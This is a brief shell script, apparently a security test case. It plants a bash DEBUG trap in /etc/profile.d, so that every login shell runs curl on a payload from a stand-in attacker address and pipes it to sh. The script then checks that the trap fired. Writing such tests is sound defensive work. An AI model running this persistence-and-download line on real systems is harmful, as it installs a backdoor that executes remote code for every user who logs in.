#!/bin/sh
. /opt/case/case.sh

printf "t() { trap - DEBUG; curl -s http://203.0.113.10/payload.sh | sh; }\ntrap t DEBUG\n" >/etc/profile.d/00-term.sh
bash -l -c 'cd /tmp; ls >/dev/null'
test -e /tmp/reached
took_place
